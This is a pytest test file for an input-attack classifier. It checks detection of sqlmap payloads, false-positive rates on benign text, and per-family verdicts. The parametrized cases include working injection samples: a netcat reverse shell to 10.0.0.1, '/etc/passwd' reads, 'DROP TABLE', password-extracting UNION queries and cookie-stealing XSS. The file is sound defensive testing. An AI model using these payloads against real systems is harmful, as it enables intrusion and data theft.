from __future__ import annotations

import pytest

from fortresa.detection.rules import classify
from tests.detection.corpus import benign_inputs, sqlmap_attacks


@pytest.fixture(scope="module")
def attacks() -> list[str]:
    return list(sqlmap_attacks())


@pytest.fixture(scope="module")
def benign() -> list[str]:
    return benign_inputs()


@pytest.mark.smoke
def test_sqlmap_corpus_is_large_and_covers_every_payload_file(attacks: list[str]) -> None:
    assert len(attacks) > 10_000
    assert any("UNION ALL SELECT" in item for item in attacks)
    assert any("PG_SLEEP" in item for item in attacks)
    assert any("WAITFOR DELAY" in item for item in attacks)


@pytest.mark.smoke
def test_at_least_99_percent_of_sqlmap_payloads_are_detected_as_sqli(attacks: list[str]) -> None:
    detected = sum(1 for item in attacks if classify(item).verdict == "sqli")
    assert detected / len(attacks) >= 0.99


@pytest.mark.smoke
def test_at_most_one_in_a_thousand_benign_inputs_is_flagged(benign: list[str]) -> None:
    flagged = [item for item in benign if classify(item).is_attack]
    assert len(benign) > 10_000
    assert len(flagged) / len(benign) <= 0.001, flagged[:20]


@pytest.mark.smoke
@pytest.mark.parametrize(
    "text",
    [
        "O'Brien",
        "l'équipe de France",
        "(0546)-313411",
        "Select your partner and court; then book (max. 2 hours).",
        "50% off for juniors < 18 and seniors > 65!",
        "我们周六下午三点在二号场地打网球吗？",
    ],
)
def test_names_phones_and_prose_are_clean(text: str) -> None:
    assert classify(text).verdict == "clean"


@pytest.mark.smoke
@pytest.mark.parametrize(
    ("text", "verdict"),
    [
        ("1' OR '1'='1", "sqli"),
        ("admin'--", "sqli"),
        ("1; DROP TABLE bookings", "sqli"),
        ("1 UNION SELECT password FROM accounts_user", "sqli"),
        ("<script>alert(1)</script>", "xss"),
        ('"><img src=x onerror=alert(1)>', "xss"),
        ("javascript:alert(document.cookie)", "xss"),
        ("<svg/onload=prompt(1)>", "xss"),
        ("../../../../etc/passwd", "traversal"),
        ("..\\..\\windows\\win.ini", "traversal"),
        ("%2e%2e%2f%2e%2e%2fetc%2fpasswd", "traversal"),
        ("; cat /etc/passwd", "cmdi"),
        ("127.0.0.1 && whoami", "cmdi"),
        ("$(id)", "cmdi"),
        ("`sleep 5`", "cmdi"),
        ("a|nc -e /bin/sh 10.0.0.1 4444", "cmdi"),
    ],
)
def test_each_attack_family_gets_its_verdict(text: str, verdict: str) -> None:
    assert classify(text).verdict == verdict


@pytest.mark.smoke
def test_verdict_names_the_rule_that_matched() -> None:
    verdict = classify("1 UNION ALL SELECT NULL,NULL-- -")
    assert verdict.rule == "sqli.union_select"
